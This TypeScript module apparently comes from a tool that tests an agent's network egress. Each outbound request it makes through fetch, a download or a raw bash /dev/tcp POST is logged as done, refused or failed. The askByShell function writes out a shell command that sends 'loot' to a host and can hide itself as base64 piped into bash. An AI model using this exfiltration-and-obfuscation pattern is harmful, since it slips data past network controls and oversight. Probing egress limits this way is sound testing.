// The agent's ways to reach the network: an ordinary fetch, and a shell that speaks HTTP over
// /dev/tcp and knows nothing of proxies or certificates. Each answer becomes an attempt: done when
// the other side said yes, refused when it was told no.

import { execFile } from 'node:child_process';
import { type Attempt, emit } from './report-line.ts';

const PATIENCE_MS = 8000;
const PROGRESS_EVERY_BYTES = 4 * 2 ** 20;

export interface Ask {
  readonly method?: string;
  readonly headers?: Readonly<Record<string, string>>;
  readonly json?: unknown;
}

export interface Answer {
  readonly attempt: Attempt;
  readonly body: unknown;
}

export async function ask(url: string, { method, headers, json }: Ask = {}): Promise<Answer> {
  const response = await fetch(url, {
    method: method ?? (json === undefined ? 'GET' : 'POST'),
    headers: json === undefined ? { ...headers } : { ...headers, ...JSON_TYPE },
    ...(json === undefined ? {} : { body: JSON.stringify(json) }),
    redirect: 'manual',
    signal: AbortSignal.timeout(PATIENCE_MS),
  });
  const text = await response.text();
  return { attempt: judged(response.status, text), body: parsed(text) };
}

const JSON_TYPE = { 'content-type': 'application/json' } as const;

function judged(status: number, text: string): Attempt {
  const detail = text.trim().slice(0, 200);
  return { result: status >= 200 && status < 300 ? 'done' : 'refused', status, detail };
}

function parsed(text: string): unknown {
  try {
    return JSON.parse(text);
  } catch {
    return undefined;
  }
}

/** A POST written by a shell. `disguised`: the command reaches the shell through base64. */
export function askByShell(host: string, path: string, disguised: boolean): Promise<Attempt> {
  const lines = [
    `POST ${path} HTTP/1.1`,
    `Host: ${host}`,
    'Content-Length: 4',
    'Connection: close',
  ];
  const request = `${lines.join('\\r\\n')}\\r\\n\\r\\nloot`;
  const script = `exec 3<>/dev/tcp/${host}/80 && printf '${request}' >&3 && head -c 400 <&3`;
  const encoded = Buffer.from(script).toString('base64');
  const command = disguised ? `echo ${encoded} | base64 -d | bash` : script;
  return new Promise((resolve) => {
    execFile('bash', ['-c', command], { timeout: PATIENCE_MS }, (error, stdout, stderr) => {
      const status = Number(/^HTTP\/1\.\d (\d{3})/.exec(stdout)?.[1]);
      if (status > 0) return resolve(judged(status, stdout.split('\r\n\r\n')[1] ?? ''));
      const detail = (stderr || error?.message || 'the connection closed').trim().slice(0, 200);
      resolve({ result: 'failed', detail });
    });
  });
}

/** Reads a body to its end and reports how far it came. */
export async function download(url: string): Promise<Attempt> {
  const response = await fetch(url);
  if (response.status !== 200 || response.body === null) {
    return judged(response.status, await response.text());
  }
  let bytes = 0;
  let told = 0;
  for await (const chunk of response.body) {
    bytes += chunk.length;
    if (bytes - told < PROGRESS_EVERY_BYTES) continue;
    told = bytes;
    emit({ kind: 'progress', act: 'download', bytes });
  }
  return { result: 'done', status: 200, detail: `${bytes} bytes, to the end` };
}
